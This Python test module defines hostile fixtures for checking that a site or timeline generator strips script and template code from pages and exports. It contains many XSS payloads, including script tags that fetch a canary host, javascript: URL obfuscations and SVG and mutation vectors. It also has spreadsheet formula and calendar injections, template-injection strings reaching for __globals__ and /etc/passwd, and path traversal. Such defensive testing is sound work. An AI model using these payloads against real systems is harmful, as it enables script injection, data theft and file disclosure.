"""A. Script from text, and F. template code from text: nothing of it may live on a page or in an export."""

from __future__ import annotations

import json
from typing import Final

from tests.hostile.case import CANARY, PLAIN, SECRET, Case, article, line, page, quoted

RUN: Final = f"window.pwned=1;fetch('https://{CANARY}/')"
TAG: Final = f"<script>{RUN}</script>"
_ON: Final = 'x" onmouseover="window.pwned=1'


def _markup(name: str, *parts: str) -> Case:
    """Return an article with each part on a paragraph of its own, and words around it."""
    return article(name, PLAIN + "\n" + "\n\n".join(parts) + "\n\nIt closed in June 2020.\n")


def _links(name: str, *targets: str) -> Case:
    """Return an article that has each target as a link, a picture, a reference, a bare address and an HTML link."""
    parts = [PLAIN]
    for number, target in enumerate(targets):
        parts += [f"[words]({target}) [more](<{target}>) ![seen]({target}) [named][r{number}] <{target}>"]
        parts += [f"[r{number}]: {target}", f'<a href="{target}">click</a> <area href="{target}">']
    return article(name, "\n\n".join(parts) + "\n")


_SVG: Final = (
    f"<svg><script>{RUN}</script></svg>",
    '<svg><a xlink:href="javascript:window.pwned=1"><text y="20">go</text></a></svg>',
    '<svg><animate onbegin="window.pwned=1" attributeName="x" dur="1s"/></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    '<svg><foreignObject><body onload="window.pwned=1"></body></foreignObject></svg>',
    f'<svg><set attributeName="href" to="javascript:window.pwned=1"/><image href="https://{CANARY}/i"/></svg>',
)
_MUTATIONS: Final = (
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1"></style></mglyph></table></mtext></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.pwned=1">',
    '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
    '<table><td><a href="x"><template><img src=x onerror="window.pwned=1"></template></a></td></table>',
    "<select><style><script>window.pwned=1</script></style></select>",
    "<p><a title='<!--'>x</a><img src=x onerror=window.pwned=1>-->",
    '<xmp><p title="</xmp><img src=x onerror=window.pwned=1>">',
    '<textarea><img title="</textarea><img src=x onerror=window.pwned=1>"></textarea>',
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    '<abbr title="`><img src=x onerror=window.pwned=1>">A</abbr>',
    "<a href='&#x1;javascript:window.pwned=1' title='\"><img src=x onerror=window.pwned=1>'>x</a>",
    '<ol start="1" onclick="window.pwned=1"><li value="x" onfocus=window.pwned=1 tabindex=0 autofocus>one</li></ol>',
    '<time datetime="2019-05-03" onclick="window.pwned=1">3 May 2019</time>',
    f"<b<script>{RUN}</script>>bold</b>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<IMG SRC=x OnErRoR=window.pwned=1>\u3000<img/src=x/onerror=window.pwned=1>",
    '<math href="javascript:window.pwned=1"><mi>x</mi></math>',
)
_SCHEMES: Final = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    "java&#115;cript:window.pwned=1",
    "javascript&colon;window.pwned=1",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.pwned=1",
    "java\tscript:window.pwned=1",
    "java&NewLine;script:window.pwned=1",
    "&#1;javascript:window.pwned=1",
    "\x0bjavascript:window.pwned=1",
    "%6aavascript:window.pwned=1",
    "javascript\\:window.pwned=1",
    "vbscript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "view-source:javascript:window.pwned=1",
    "feed:javascript:window.pwned=1",
    "blob:null/1",
    "filesystem:x",
    "file:///etc/passwd",
    f"//{CANARY}/",
    f"\\\\{CANARY}\\",
    "https:javascript:window.pwned=1",
    f"https://user:word@{CANARY}/",
    "http://[::1",
)
_CLOSERS: Final = "</script></style></title></textarea></noscript>-->]]>*/}})\u2028\u2029"

SCRIPTS: Final = (
    article(
        "a script in the text", f"{PLAIN}\nBefore {TAG} after.\n\n{TAG}\n", "bad.md:8:8: warning: left out: <script>"
    ),
    article("a script in the title", title=quoted(f"A {TAG} title"), place=quoted(TAG), publisher=quoted(TAG)),
    article("a title that ends an attribute", title=quoted(_ON), place=quoted(_ON), publisher=quoted(_ON)),
    article("an id that ends an attribute", id=quoted('x" onclick="window.pwned=1" id="')),
    article("tags that hold script", tags=quoted(TAG)),
    article("an address that ends an attribute", PLAIN, "not a web address", url=quoted(f'https://{CANARY}/"{_ON}')),
    article("an address that runs", PLAIN, "not a web address", url="javascript:window.pwned=1"),
    article("an address with half of itself in braces", PLAIN, url=quoted(f"https://{CANARY}/{{{{7*7}}}}?a=1&b=2#c")),
    _markup(
        "events on elements",
        "<img src=x onerror=window.pwned=1> and <svg/onload=window.pwned=1>",
        "<body onload=window.pwned=1>",
        "<details open ontoggle=window.pwned=1>x</details>",
        "<video><source onerror=window.pwned=1></video>",
        "<marquee onstart=window.pwned=1>x</marquee>",
    ),
    _links("links that run", *_SCHEMES),
    _markup(
        "frames, styles, bases and refreshes",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
        f"<style>@import 'https://{CANARY}/'; *{{background:url(https://{CANARY}/b)}}</style>",
        f"<base href='//{CANARY}/'>",
        f"<meta http-equiv=refresh content='0;url=//{CANARY}'>",
        f"<link rel=stylesheet href='https://{CANARY}/s'><link rel=preload as=image href='https://{CANARY}/p'>",
        f"<object data='https://{CANARY}/o'></object><embed src='https://{CANARY}/e'>",
        f"<form action='https://{CANARY}/f'><input autofocus onfocus=window.pwned=1><button>x</button></form>",
        '<meta http-equiv=Content-Security-Policy content="default-src *"><title>x</title>',
    ),
    _markup(
        "pictures and media from elsewhere",
        f"![a](https://{CANARY}/a.png)",
        f"<img srcset='https://{CANARY}/1.png 1x, https://{CANARY}/2.png 2x'>",
        f"<picture><source srcset='https://{CANARY}/3.webp'><img src='//{CANARY}/4'></picture>",
        f"<video poster='https://{CANARY}/5' src='https://{CANARY}/6' autoplay></video>",
        f"<audio src='https://{CANARY}/7' autoplay></audio><track src='https://{CANARY}/8'>",
        f"<table background='https://{CANARY}/9'><tr><td>x</td></tr></table>",
        f"<input type=image src='https://{CANARY}/10'>",
        f"<a href='https://{CANARY}/' ping='https://{CANARY}/'>x</a>",
    ),
    _markup(
        "styles in attributes",
        f"<p style=\"background:url('https://{CANARY}/')\">x</p>",
        "<div style='position:fixed;inset:0;z-index:9'>over all</div>",
        "<b class='skip' id='main'>x</b>",
        "<span style='width:expression(window.pwned=1)'>x</span>",
        "<p style='behavior:url(#x)'>y</p>",
    ),
    _markup("drawings and formulas that run", *_SVG),
    _markup("markup that changes when it is read twice", *_MUTATIONS),
    _markup(
        "names that hide those of the page",
        "<a id=main name=getElementById>x</a><form id=documentElement></form>",
        "<img name=body><p id=band class=find data-e='1 2 3' data-search='//canary.invalid/'>y</p>",
    ),
    article(
        "what ends a script, a style, a title",
        f"{PLAIN}\n{_CLOSERS} on 4 May 2019.\n\n`{_CLOSERS}`\n",
        title=quoted(f"{_CLOSERS}{TAG}"),
        publisher=quoted(_CLOSERS),
    ),
    Case(
        "what ends a block of data",
        {
            "bad.txt": f"date 2019-05-06 RIBE — {_CLOSERS} {TAG} & < > \" ' closed on 3 May 2019.\n".encode(),
            "bad.jsonl": line(title=_CLOSERS, text=f"The {_CLOSERS}{TAG} bridge opened on 3 May 2019."),
        },
    ),
    Case(
        "a formula for a spreadsheet",
        {
            f"{number}.jsonl": line(
                id=f"{start}{number}",
                title=f"{start}HYPERLINK(1)",
                publisher=f"{start}cmd|'/c calc'!A1",
                text=f"{start}cmd|'/c calc'!A{number} opened on 3 May 2019.",
            )
            for number, start in enumerate(("=", "+", "-", "@", "\t+", "\r-", "\n@", "＝", "|", "%"))
        },
    ),
    Case(
        "an entry that would end a calendar's",
        {
            "bad.jsonl": line(
                id="a\r\nEND:VEVENT",
                title="a\r\nATTENDEE:x\\;,\n",
                text="The bridge\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nopened; it, was \\n on 3 May 2019.",
            ),
        },
    ),
    Case(
        "HTML in a line of JSON",
        {
            "bad.jsonl": json.dumps(
                {"id": "h", "dct": "2019-05-06", "html": f"<p>{PLAIN}{TAG}</p>{''.join(_SVG)}{''.join(_MUTATIONS)}"}
            ).encode(),
        },
    ),
    Case(
        "a saved page that runs",
        {
            "bad.html": (
                f"<html lang='en'><head><title>{TAG}x</title><meta name=date content=2019-05-06>"
                f"<meta name=author content='{TAG}'><meta property=og:site_name content='\"><b onclick=1>'>"
                f"<link rel=canonical href='javascript:window.pwned=1'></head><body><article><h1>{TAG}Bridge</h1>"
                + "".join(
                    f"<p>{PLAIN} {word} {'The town was glad of it. ' * 8}</p>"
                    for word in (TAG, *_SVG, *_MUTATIONS[-6:])
                )
                + "</article></body></html>"
            ).encode(),
        },
    ),
    Case(
        "a feed that runs",
        {
            "bad.xml": (
                "<rss version='2.0'><channel><title><![CDATA[" + TAG + "]]></title><link>javascript:window.pwned=1"
                "</link><item><title><![CDATA[" + TAG + "]]></title><link>javascript:window.pwned=1</link>"
                '<guid>"><script>window.pwned=1</script></guid><pubDate>Mon, 06 May 2019 10:00:00 GMT</pubDate>'
                "<description><![CDATA[" + f"<p>{PLAIN}</p>{TAG}<img src=x onerror=window.pwned=1>"
                f"<a href='javascript:window.pwned=1'>x</a><iframe src='//{CANARY}'></iframe>"
                + "]]></description></item></channel></rss>"
            ).encode(),
        },
    ),
    Case(
        "hand-written events that run",
        {
            "content/events/bad.md": page(
                f"Words {TAG} <img src=x onerror=window.pwned=1> [x](javascript:window.pwned=1)\n",
                headline=quoted(_ON),
                label=quoted(TAG),
                group=quoted(_ON),
                source=quoted(f"{TAG} {_ON}"),
            ),
            "content/pages/bad.md": f"---\ntitle: {quoted(TAG)}\n---\n{TAG}\n\n<iframe srcdoc='{TAG}'></iframe>\n\nx\n".encode(),
        },
    ),
    Case(
        "a timeline of others that runs",
        {
            "bad.json": json.dumps(
                {
                    "events": [
                        {
                            "start_date": {"year": "2019", "month": "5", "display_date": TAG},
                            "unique_id": _ON,
                            "group": _ON,
                            "text": {
                                "headline": f"{TAG}<b onclick=x>Bridge</b>",
                                "text": f"{TAG}<img src=x onerror=window.pwned=1>y",
                            },
                            "media": {
                                "url": f'https://{CANARY}/"{_ON}',
                                "caption": TAG,
                                "credit": _ON,
                                "link": "javascript:pwned=1",
                            },
                            "background": {"url": f"https://{CANARY}/b.png"},
                        }
                    ]
                }
            ).encode(),
            "bad.csv": f'Year,Headline,Text,Media\n2018,"{TAG}x","{TAG}y",javascript:window.pwned=1\n'.encode(),
            "bad.mw": f"2017-05-03: Bridge {TAG} [x](javascript:window.pwned=1)\n  {TAG}\n".encode(),
        },
    ),
    Case(
        "an export that was tampered with",
        {
            "bad.json": json.dumps(
                {
                    "title": TAG,
                    "events": [
                        {
                            "id": _ON,
                            "edtf": "2019-05-03",
                            "mod": None,
                            "earliest": "2019-05-03",
                            "latest": "2019-05-03",
                            "inferred": [TAG],
                            "status": "happened",
                            "kind": "event",
                            "headline": f"{TAG}{_ON}",
                            "salience": 2,
                            "sources": [
                                {
                                    "document": f"../{_ON}",
                                    "title": TAG,
                                    "url": "javascript:window.pwned=1",
                                    "publisher": _ON,
                                    "published": "2019-05-06",
                                    "quote": f"{TAG} {_ON}",
                                    "phrase": _ON,
                                    "sentence_span": [-5, 10**9],
                                    "phrase_span": [10**9, -1],
                                }
                            ],
                            "steps": [{"kind": "said", "values": {"text": f"{TAG}{{0.__class__}}"}}],
                            "aliases": [_ON],
                            "html": f"{TAG}<p onclick=x>y</p>",
                            "display_date": TAG,
                            "group": _ON,
                            "note": TAG,
                            "citations": [
                                {"title": TAG, "url": "javascript:window.pwned=1", "publisher": _ON, "published": TAG}
                            ],
                            "found": {"edtf": "2019", "mod": None, "headline": TAG, "status": "happened"},
                        }
                    ],
                }
            ).encode(),
        },
    ),
)

_CODE: Final = (
    "{{ 7*191 }} {% for i in range(3) %}x{% endfor %} {{ self.__init__.__globals__ }} {{< figure src=x >}} "
    "{% include '/etc/passwd' %} {% raw %} {# gone #} ${7*191} #{7*191} <%= 7*191 %> {0.__class__} %(title)s $title "
    "{{ site.root }} {{ ''.__class__.__mro__ }} {%- import os -%} [[7*191]] ~~~ {: onclick=pwned=1 } [TOC] *[HTML]: x"
)

TEMPLATES: Final = (
    article("template code in the text", f"{_CODE}\n\n{PLAIN}"),
    article(
        "template code in the header",
        title=quoted(_CODE),
        place=quoted("{{ 7*191 }}"),
        id=quoted("{{ 7*191 }}"),
        publisher=quoted("{% raw %}{{ 7*191 }}"),
    ),
    Case("template code in a plain text", {"bad.txt": f"date 2019-05-06 RIBE — {_CODE} on 3 May 2019.\n".encode()}),
    Case(
        "template code in what an editor writes",
        {
            "content/events/bad.md": page(_CODE, headline=quoted(_CODE), note=quoted(_CODE)),
            "content/pages/bad.md": _CODE.encode(),
            "content/curation.toml": f'[[event]]\nid = "x"\nheadline = {quoted(_CODE)}\n'.encode(),
        },
        code=1,
        said=("content/curation.toml:1",),
    ),
    article(
        "a template of its own choice",
        layout="../../../../etc/passwd",
        template=f"../../{SECRET}",
        type=quoted("{{x}}"),
    ),
)
